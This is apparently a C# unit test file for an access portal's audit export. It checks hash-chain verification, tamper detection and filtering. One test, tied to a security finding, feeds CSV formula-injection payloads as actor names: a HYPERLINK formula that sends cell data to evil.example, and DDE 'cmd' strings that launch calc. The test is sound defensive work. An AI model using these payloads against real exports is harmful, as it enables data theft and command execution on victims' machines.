using System.Text.Json;
using LockboxPortal.Features.Audit;
using LockboxPortal.Tests.Infrastructure;
using Microsoft.Extensions.DependencyInjection;

namespace LockboxPortal.Tests.Audit;

/// <summary>Exports verify with a verifier written only from the documentation.</summary>
public sealed class ExportVerificationTests
{
    private static async Task<string> ExportAsync(ServiceHarness harness, AuditQuery query, AuditExportFormat format)
    {
        var audit = harness.Services.GetRequiredService<AuditService>();
        var job = await audit.StartExportAsync(ServiceHarness.ContosoOfficer, query, format);
        var output = new StringWriter();
        await job.WriteAsync(output, CancellationToken.None);
        return output.ToString();
    }

    private static async Task<ServiceHarness> ContosoChainAsync()
    {
        var harness = await ServiceHarness.CreateAsync();
        var approved = await harness.ApprovedAsync();
        await harness.Requests.CancelAsync(ServiceHarness.Engineer, (await harness.Requests.FileAsync(ServiceHarness.Engineer, harness.ValidInput(scope: "Exchange:mailbox/ben@contoso.com"))).Id);
        await AuditTestData.AppendAsync(harness, harness.Contoso, 3);
        Assert.NotNull(approved);
        return harness;
    }

    [Fact]
    public async Task ExportJson_VerifiesWithTheDocumentedVerifier()
    {
        await using var harness = await ContosoChainAsync();

        var json = await ExportAsync(harness, new AuditQuery(harness.Contoso), AuditExportFormat.Json);

        var portal = await AuditTestData.VerifyAsync(harness, harness.Contoso);
        Assert.Equal($"intact, {portal.EntryCount - 1} entries", IndependentChainVerifier.VerifyJson(json));
        using var document = JsonDocument.Parse(json);
        Assert.Equal(harness.Contoso.ToString(), document.RootElement.GetProperty("chainId").GetString());
        Assert.False(document.RootElement.GetProperty("filtered").GetBoolean());
        var first = document.RootElement.GetProperty("entries")[0];
        Assert.Equal(1100, first.GetProperty("eventType").GetInt32());
        Assert.Equal(AuditEntry.GenesisHash, first.GetProperty("previousHash").GetString());
    }

    [Fact]
    public async Task ExportCsv_VerifiesWithTheDocumentedVerifier()
    {
        await using var harness = await ContosoChainAsync();

        var csv = await ExportAsync(harness, new AuditQuery(harness.Contoso), AuditExportFormat.Csv);

        Assert.StartsWith("chainId,sequence,occurredAt,", csv);
        Assert.Matches(@"^intact, \d+ entries$", IndependentChainVerifier.VerifyCsv(csv));
    }

    /// <summary>Finding 8: a display name such as =HYPERLINK(...) became a formula in the CSV export.</summary>
    [Theory]
    [InlineData("=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")")]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("'already quoted")]
    public async Task ExportCsv_NeutralizesFormulaLeadingCells_AndStillVerifies(string actorName)
    {
        await using var harness = await ServiceHarness.CreateAsync();
        await AuditTestData.AppendAsync(harness, harness.Contoso, 2, actorName);

        var csv = await ExportAsync(harness, new AuditQuery(harness.Contoso), AuditExportFormat.Csv);

        var cells = csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Skip(1)
            .SelectMany(line => line.Split(',')).Select(cell => cell.TrimStart('"')).ToList();
        Assert.DoesNotContain(cells, cell => cell.Length > 0 && "=+-@\t\r".Contains(cell[0]));
        Assert.Contains(cells, cell => cell.StartsWith("'" + actorName[..1], StringComparison.Ordinal));
        Assert.Equal("intact, 2 entries", IndependentChainVerifier.VerifyCsv(csv));
    }

    [Fact]
    public async Task ExportJson_EditedAfterExport_FailsTheDocumentedVerifierAtThatEntry()
    {
        await using var harness = await ContosoChainAsync();
        var json = await ExportAsync(harness, new AuditQuery(harness.Contoso), AuditExportFormat.Json);

        var edited = json.Replace("\"actorName\":\"manager\"", "\"actorName\":\"someone else\"", StringComparison.Ordinal);

        Assert.NotEqual(json, edited);
        Assert.Equal("broken at entry 2: changed", IndependentChainVerifier.VerifyJson(edited));
    }

    [Fact]
    public async Task ExportJson_Filtered_ContainsOnlyMatchingEntriesAndSaysSo()
    {
        await using var harness = await ContosoChainAsync();

        var json = await ExportAsync(harness, new AuditQuery(harness.Contoso) { EventType = AuditEventType.AccessRequest_Filed }, AuditExportFormat.Json);

        using var document = JsonDocument.Parse(json);
        Assert.True(document.RootElement.GetProperty("filtered").GetBoolean());
        var types = document.RootElement.GetProperty("entries").EnumerateArray().Select(e => e.GetProperty("eventName").GetString()).ToList();
        Assert.Equal(2, types.Count);
        Assert.All(types, t => Assert.Equal(nameof(AuditEventType.AccessRequest_Filed), t));
    }
}
